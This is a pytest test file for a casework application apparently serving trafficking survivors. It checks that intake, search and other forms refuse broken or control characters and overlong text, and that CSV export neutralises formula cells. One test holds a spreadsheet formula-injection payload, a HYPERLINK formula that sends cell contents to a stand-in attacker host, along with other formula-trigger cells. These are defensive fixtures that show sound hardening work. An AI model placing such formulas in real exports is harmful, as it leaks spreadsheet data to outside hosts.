"""Hostile or broken text (issue 15): search and the duplicate check answer sensibly, intake
refuses what cannot be stored or is too long with one clear sentence, and CSV cells cannot run
as spreadsheet formulas."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date

import pytest

from casework import limits
from casework.application.desk import Desk
from casework.errors import ValidationError
from casework.reporting.csv_safety import neutralise
from casework.services import cases, search
from casework.vault.opened import OpenVault
from casework.vault.vault import VaultFolder
from tests.conftest import SUPERVISOR_PASSWORD, WORKER_PASSWORD
from tests.factories import actor_of, unlock

NUL = "Ma\x00i"
SURROGATE = "Ma\udcffi"  # a lone surrogate, as a broken paste or file name gives
HUGE = "a" * 100_000


@pytest.fixture
def amina(staffed_vault: OpenVault, vault_folder: VaultFolder, today: date) -> Iterator[OpenVault]:
    amina = unlock(vault_folder, "amina", WORKER_PASSWORD)
    with amina.transaction() as session:
        for first, last, aliases in (("Mai", "Tran", ("Mimi",)), ("Olena", "Kovalenko", ())):
            cases.record_survivor(
                session,
                actor_of(amina),
                cases.SurvivorInput(
                    first_name=first, last_name=last, aliases=aliases, intake_date=today
                ),
                today,
            )
    yield amina
    amina.lock()


def test_search_finds_nothing_for_text_nothing_stored_can_hold(amina: OpenVault) -> None:
    workspace = Desk(amina, actor_of(amina))
    for query in (NUL, SURROGATE, "Ma\x1b[2J", HUGE, "M\x00", "Tr\udcff"):
        people, notes = workspace.cases.find(query)  # the search box: people and notes
        assert people == [] and notes == []
    assert [h.name for h in workspace.cases.find("Mai")[0]] == ["Mai Tran"]  # search still works


def test_the_duplicate_check_refuses_what_intake_would_refuse(amina: OpenVault) -> None:
    with amina.session() as session:
        for kwargs, field in (
            ({"aliases": (HUGE,)}, "aliases"),  # was "LIKE or GLOB pattern too complex"
            ({"aliases": ("x" + "\udcff",)}, "aliases"),  # was UnicodeEncodeError
            ({"first_name": SURROGATE}, "first_name"),
            ({"first_name": NUL}, "first_name"),
            ({"last_name": "b" * 101}, "last_name"),
            ({"phone": "1" * 51}, "phone"),
            ({"aliases": tuple(f"alias {i}" for i in range(21))}, "aliases"),
        ):
            arguments = {"first_name": "Grace", **kwargs}
            with pytest.raises(ValidationError) as refused:
                search.possible_duplicates(session, actor_of(amina), **arguments)  # type: ignore[arg-type]
            assert refused.value.field == field
            assert "\x00" not in refused.value.message and "aaaa" not in refused.value.message
        found = search.possible_duplicates(session, actor_of(amina), "Mai", aliases=("Mimi",))
    assert [m.name for m in found] == ["Mai Tran"]


REFUSED = [
    ("first_name", SURROGATE, "The first name holds a broken character"),
    ("first_name", NUL, "The first name holds an invisible control character"),
    ("last_name", "Tran\x1b[31m", "The last name holds an invisible control character"),
    ("first_name", "M" * 101, "The first name is longer than 100 characters"),
    ("middle_name", "M" * 101, "The middle name is longer than 100 characters"),
    ("phone", "1" * 51, "The phone number is longer than 50 characters"),
    ("email", "a@" + "b" * 199, "The email address is longer than 200 characters"),
    ("province", "P" * 101, "The province is longer than 100 characters"),
    ("referring_organisation", "O" * 201, "The referring organisation is longer than 200"),
    ("other_details", "R\x00", "The note of other details holds an invisible control"),
    ("relationship_to_trafficker", "uncle", "Choose the relationship to the trafficker from"),
    ("education_level", "PrimaryEducation\x00", "Choose the level of education from its list"),
]
# A multi-select picklist refuses a value that is not one of its choices, without repeating it
REFUSED_CHOICES = [
    ("recruitment_methods", ("AtWork", "Mailbox"), "Choose the method of recruitment from"),
    ("methods_of_control", ("Lies about visa",), "Choose the methods of control from its list"),
    ("safe_contact_note", "call\udcff", "The note on safe contact holds a broken character"),
    ("immigration_notes", "visa\x00", "The note on immigration holds an invisible control"),
]


def test_intake_refuses_text_that_cannot_be_stored(amina: OpenVault, today: date) -> None:
    for field, value, says in REFUSED:
        data = {"first_name": "Grace", "intake_date": today, field: value}
        with pytest.raises(ValidationError, match=says) as refused, amina.transaction() as session:
            cases.record_survivor(session, actor_of(amina), cases.SurvivorInput(**data), today)  # type: ignore[arg-type]
        assert refused.value.field == field and value not in refused.value.message
    for field, values, says in REFUSED_CHOICES:
        data = {"first_name": "Grace", "intake_date": today, field: values}
        with pytest.raises(ValidationError, match=says) as refused, amina.transaction() as session:
            cases.record_survivor(session, actor_of(amina), cases.SurvivorInput(**data), today)  # type: ignore[arg-type]
        assert refused.value.field == field and values[-1] not in refused.value.message


def test_intake_refuses_too_many_or_too_long_aliases(amina: OpenVault, today: date) -> None:
    for aliases, says in (
        (("A" * 201,), "An alias is longer than 200 characters"),
        (tuple(f"alias {i}" for i in range(21)), "at most 20 aliases"),
        (("ok", "bad\udcff"), "An alias holds a broken character"),
    ):
        data = cases.SurvivorInput(first_name="Grace", aliases=aliases, intake_date=today)
        with pytest.raises(ValidationError, match=says), amina.transaction() as session:
            cases.record_survivor(session, actor_of(amina), data, today)


def test_intake_takes_text_at_its_limits(amina: OpenVault, today: date) -> None:
    """The limits are as stated, not one less; free text keeps its line breaks and tabs."""
    data = cases.SurvivorInput(
        first_name="F" * 100,
        last_name="Ł" * 100,
        aliases=tuple("A" * 198 + f"{i:02d}" for i in range(20)),
        phone="+254 7" + "1" * 44,
        safe_contact_note="Mornings only.\r\n\tNot at work.",
        intake_date=today,
    )
    with amina.transaction() as session:
        detail = cases.record_survivor(session, actor_of(amina), data, today)
    assert len(detail.first_name) == 100 and len(detail.aliases) == 20
    assert detail.safe_contact_note == "Mornings only.\r\n\tNot at work."


def test_the_importer_can_ask_the_same_questions() -> None:
    assert limits.text_problem("Mai", limits.NAME) is None
    assert limits.text_problem("M" * 101, limits.NAME) == "longer than 100 characters"
    assert (
        limits.text_problem("M\x00", limits.NAME)
        == "holds a control character that cannot be stored"
    )
    assert limits.text_problem("M\udcff", limits.NAME, multiline=True) == (
        "holds a broken character that cannot be stored"
    )
    assert limits.text_problem("line\r\nnext", limits.LONG_TEXT, multiline=True) is None
    assert limits.text_problem("a\rb", limits.NAME) is not None  # one line: no carriage return


def test_csv_cells_that_would_run_as_formulas_are_quoted() -> None:
    for cell in ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-1+cmd", "@SUM(A1)"):
        assert neutralise(cell) == "'" + cell
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\n=1"
    for cell in ("12", "0", "-3", "+4", "1.5", "-0.25", "x", "r", "", "Mombasa", "30-38", "3+"):
        assert neutralise(cell) == cell  # numbers, flags and codes stay as they are


def test_notes_tasks_partners_and_facilities_refuse_broken_text(
    amina: OpenVault, staffed_vault: OpenVault, today: date
) -> None:
    """A lone surrogate reached the database driver and raised UnicodeEncodeError."""
    from casework.model.vocab import Confidentiality, OrganisationType

    workspace = Desk(amina, actor_of(amina))
    [hit] = workspace.cases.find("Mai")[0]
    with pytest.raises(ValidationError, match="broken character") as refused:
        workspace.notes.add(hit.case_id, f"Called {SURROGATE}", today, Confidentiality.ORDINARY)
    assert refused.value.field == "body"
    with pytest.raises(ValidationError, match="broken character"):
        workspace.tasks.add(hit.case_id, f"Phone {SURROGATE}", today)
    with pytest.raises(ValidationError, match="control character"):
        workspace.tasks.add(hit.case_id, "Phone \x1b[2J", today)
    admin = Desk(staffed_vault, actor_of(staffed_vault))
    with pytest.raises(ValidationError, match="broken character"):
        admin.shelter.add_facility(f"House {SURROGATE}", {"A": 2})
    with pytest.raises(ValidationError, match="longer than"):
        admin.shelter.add_facility("House", {"b" * 101: 2})
    supervisor = unlock(staffed_vault.folder, "sara", SUPERVISOR_PASSWORD)
    try:
        with pytest.raises(ValidationError, match="broken character"):
            Desk(supervisor, actor_of(supervisor)).referrals.add_partner(
                f"Legal {SURROGATE}", OrganisationType.NGO, ()
            )
    finally:
        supervisor.lock()


def test_every_form_s_broken_text_is_refused_before_the_driver(
    amina: OpenVault, staffed_vault: OpenVault, today: date
) -> None:
    """Fields with no check of their own (a consent's purpose, a closure comment, a partner's
    contact) reached SQLite's encoder and raised UnicodeEncodeError."""
    from casework.model.vocab import ConsentKind, OrganisationType

    workspace = Desk(amina, actor_of(amina))
    [hit] = workspace.cases.find("Mai")[0]
    with pytest.raises(ValidationError, match="cannot be stored") as refused:
        workspace.consent.record(
            hit.case_id, ConsentKind.RELEASE, today, None, "Legal aid", SURROGATE, ()
        )
    assert refused.value.field == "purpose"
    assert workspace.consent.of_case(hit.case_id) == []  # nothing was half-saved
    supervisor = unlock(staffed_vault.folder, "sara", SUPERVISOR_PASSWORD)
    try:
        with pytest.raises(ValidationError, match="cannot be stored"):
            Desk(supervisor, actor_of(supervisor)).referrals.add_partner(
                "Legal aid", OrganisationType.NGO, (), contact_person=NUL
            )
    finally:
        supervisor.lock()
